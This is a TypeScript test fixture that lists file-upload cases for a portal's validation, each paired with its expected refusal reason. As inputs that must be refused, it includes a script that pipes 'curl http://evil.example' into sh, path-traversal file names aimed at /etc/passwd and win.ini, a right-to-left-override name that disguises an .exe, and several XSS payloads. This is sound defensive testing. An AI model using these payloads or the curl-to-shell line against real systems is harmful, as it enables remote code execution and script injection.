import { COMMUNICATION_LIMITS } from './communication.ts';
import { FILE_NAME_MAX_LENGTH } from './upload-name.ts';
import type { UploadProblem } from './upload.ts';

export interface UploadCase {
  name: string;
  size: number;
  /** The file's first bytes; the rest, up to `size`, is zeros. (Over an ArrayBuffer: a File can be made of it.) */
  head: Uint8Array<ArrayBuffer>;
  /** null: the file is accepted. */
  refused: UploadProblem | null;
}

const { fileMaxBytes } = COMMUNICATION_LIMITS;
const text = (value: string) => new TextEncoder().encode(value);
const bytes = (...values: number[]) => new Uint8Array(values);

const PDF = text('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n');
const JPEG = bytes(0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01);
const PNG = bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52);
const HEIC = bytes(0x00, 0x00, 0x00, 0x18, ...text('ftypheic'), 0x00, 0x00, 0x00, 0x00, ...text('mif1heic'));
const ZIP = bytes(0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00);
const OLE = bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0x00, 0x00);
const HTML = text('<html><script>fetch("/api/v3/main/user/")</script></html>');
const SCRIPT = text('#!/bin/sh\ncurl http://evil.example | sh\n');
/** A long name a resident's computer can hold: exactly FILE_NAME_MAX_LENGTH characters. */
const longName = (length: number) => `${'я'.repeat(length - '.pdf'.length)}.pdf`;

/** The whole body of a case: its head, then zeros up to its size. */
export function uploadCaseContent({ size, head }: UploadCase): Uint8Array<ArrayBuffer> {
  const content = new Uint8Array(size);
  content.set(head.subarray(0, size));
  return content;
}

/**
 * The files the portal and the operator API must judge alike: each side runs
 * this one list through its own check — the server through a real upload route, the portal through
 * the controls residents pick files with.
 */
export const UPLOAD_CASES: readonly UploadCase[] = [
  { name: 'справка.pdf', size: 2048, head: PDF, refused: null },
  { name: 'скан.pdf', size: fileMaxBytes, head: PDF, refused: null },
  { name: 'скан.pdf', size: fileMaxBytes + 1, head: PDF, refused: 'too-large' },
  { name: 'пустой.pdf', size: 0, head: bytes(), refused: 'empty' },
  { name: 'x.crdownload', size: 2048, head: PDF, refused: 'forbidden-extension' },
  { name: 'a.part.', size: 2048, head: PDF, refused: 'forbidden-extension' },
  { name: 'X.PART', size: 2048, head: PDF, refused: 'forbidden-extension' },
  { name: 'выписка.pdf.Crdownload', size: 2048, head: PDF, refused: 'forbidden-extension' },
  // Only the last extension counts: a document named after its draft is fine.
  { name: 'отчёт.part.pdf', size: 2048, head: PDF, refused: null },
  // Names: a path, control and direction characters, length.
  { name: '../../etc/passwd.pdf', size: 2048, head: PDF, refused: 'bad-name' },
  { name: '..\\..\\Windows\\win.ini.pdf', size: 2048, head: PDF, refused: 'bad-name' },
  { name: 'сч\u0000ёт.pdf', size: 2048, head: PDF, refused: 'bad-name' },
  { name: 'счёт\u202Efdp.exe', size: 2048, head: PDF, refused: 'bad-name' },
  { name: longName(300), size: 2048, head: PDF, refused: 'bad-name' },
  { name: longName(FILE_NAME_MAX_LENGTH), size: 2048, head: PDF, refused: null },
  // Content: the first bytes must be what the extension says, and never a page.
  { name: 'квитанция.pdf', size: 2048, head: HTML, refused: 'content-mismatch' },
  { name: 'акт.pdf', size: 2048, head: SCRIPT, refused: 'content-mismatch' },
  { name: 'нули.pdf', size: 2048, head: bytes(), refused: 'content-mismatch' },
  { name: 'фото.jpg', size: 2048, head: JPEG, refused: null },
  { name: 'фото.JPEG', size: 2048, head: PNG, refused: 'content-mismatch' },
  { name: 'снимок.heic', size: 2048, head: HEIC, refused: null },
  { name: 'таблица.xlsx', size: 2048, head: ZIP, refused: null },
  { name: 'письмо.doc', size: 2048, head: OLE, refused: null },
  { name: 'заметка.txt', size: 2048, head: text('Показания счётчика: 01234\n'), refused: null },
  { name: 'показания.csv', size: 2048, head: text('\ufeffдата;показание\n2026-05-01;01234\n'), refused: null },
  {
    name: 'страница.txt',
    size: 2048,
    head: text('\ufeff\n  <!DOCTYPE html><title>x</title>'),
    refused: 'active-content',
  },
  {
    name: 'рисунок',
    size: 2048,
    head: text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    refused: 'active-content',
  },
  { name: 'скрипт', size: 2048, head: text('<script>alert(1)</script>'), refused: 'active-content' },
  // Pages by name, whatever they hold.
  {
    name: 'page.html',
    size: 2048,
    head: text('<p>Квитанция</p><img src=x onerror=alert(1)>'),
    refused: 'forbidden-extension',
  },
  {
    name: 'рисунок.svg',
    size: 2048,
    head: text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    refused: 'forbidden-extension',
  },
  { name: 'Страница.XHTML', size: 2048, head: text('Показания счётчика: 01234\n'), refused: 'forbidden-extension' },
  { name: 'выгрузка.xml', size: 2048, head: text('<?xml version="1.0"?><Документ/>'), refused: 'forbidden-extension' },
  // Markup further in a text, not only at its start.
  {
    name: 'письмо.txt',
    size: 2048,
    head: text('Здравствуйте!\nПрилагаю фото: <img src=x onerror=alert(1)>'),
    refused: 'active-content',
  },
  {
    name: 'показания.txt',
    size: 8192,
    head: text(`${'Показания счётчика: 01234\n'.repeat(100)}<script>alert(1)</script>`),
    refused: 'active-content',
  },
  {
    name: 'рисунок',
    size: 2048,
    head: text(
      '<!DOCTYPE note [<!ENTITY x "y">]>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    refused: 'active-content',
  },
  {
    name: 'заметка.csv',
    size: 2048,
    head: text('цена;ссылка\n<5 000;<a href="javascript:alert(1)">оплатить</a>\n'),
    refused: 'active-content',
  },
  // Angle brackets that are not markup stay text.
  {
    name: 'формула.txt',
    size: 2048,
    head: text('a < b, 3 <4, 5>2, <b>важно</b>, <a href="https://example.ru/">ссылка</a>, <оплата>'),
    refused: null,
  },
];
